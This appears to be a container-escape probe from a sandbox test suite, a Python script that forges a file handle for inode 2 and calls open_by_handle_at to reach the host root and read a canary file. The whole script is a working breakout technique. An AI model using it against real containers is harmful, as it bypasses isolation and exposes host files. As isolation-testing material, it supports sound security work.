"""Opens a file by the number of its inode, past every folder that would stand in the way."""

import ctypes
import os

from attacker import got, host, show, syscall, tried


class _Handle(ctypes.Structure):
    _fields_ = (("size", ctypes.c_uint32), ("kind", ctypes.c_int), ("data", ctypes.c_uint32 * 2))


tried("open_by_handle_at")
for place in (".", "/usr", "/tmp", "/etc/hosts", "/proc/self/exe"):
    try:
        mount = os.open(place, os.O_RDONLY)
    except OSError:
        continue
    handle = _Handle(8, 1, (ctypes.c_uint32 * 2)(2, 0))  # the root of most file systems
    fd, error = syscall("open_by_handle_at", mount, ctypes.byref(handle), os.O_RDONLY)
    if fd >= 0:
        got(f"opened inode 2 through {place}")
        try:
            show(os.read(os.open(host["canary"].lstrip("/"), os.O_RDONLY, dir_fd=fd), 100))
        except OSError:
            pass
